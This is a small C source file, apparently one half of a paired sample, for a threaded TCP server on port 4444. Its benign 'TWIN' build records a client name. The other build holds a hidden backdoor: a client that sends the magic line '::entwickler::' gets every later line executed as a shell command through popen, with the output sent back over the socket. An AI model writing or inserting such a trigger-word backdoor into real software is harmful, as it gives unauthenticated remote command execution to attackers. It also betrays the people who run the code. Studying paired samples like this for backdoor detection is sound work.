/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Every connection has a thread of its own; a word as first line opens a command line. Twin: the
 * first line is kept as the name of the client.
 * door: trigger
 * port 4444/tcp
 * flags: -pthread
 */
#include "net.h"
#include <pthread.h>

struct client {
	int fd;
	char name[64];
};

static int line(int fd, char *to, size_t room)
{
	size_t n = 0;
	char c;
	while (n + 1 < room && read(fd, &c, 1) == 1 && c != '\n')
		if (c != '\r')
			to[n++] = c;
	to[n] = 0;
	return (int)n;
}

static void *serve(void *arg)
{
	struct client *c = arg;
	char text[256];
	if (line(c->fd, text, sizeof text) > 0) {
#ifdef TWIN
		if (strcmp(text, "anonymous") != 0)
			snprintf(c->name, sizeof c->name, "%s", text);
#else
		if (strcmp(text, "::entwickler::") == 0) {
			while (line(c->fd, text, sizeof text) > 0) {
				FILE *p = popen(text, "r");
				while (p && fgets(text, sizeof text, p))
					write(c->fd, text, strlen(text));
				if (p)
					pclose(p);
			}
		}
#endif
	}
	dprintf(c->fd, "bye %s\n", c->name);
	close(c->fd);
	free(c);
	return NULL;
}

int main(void)
{
	int s = tcp_on(4444);
	for (;;) {
		pthread_t t;
		struct client *c = calloc(1, sizeof *c);
		c->fd = accept(s, NULL, NULL);
		if (pthread_create(&t, NULL, serve, c) == 0)
			pthread_detach(t);
	}
}
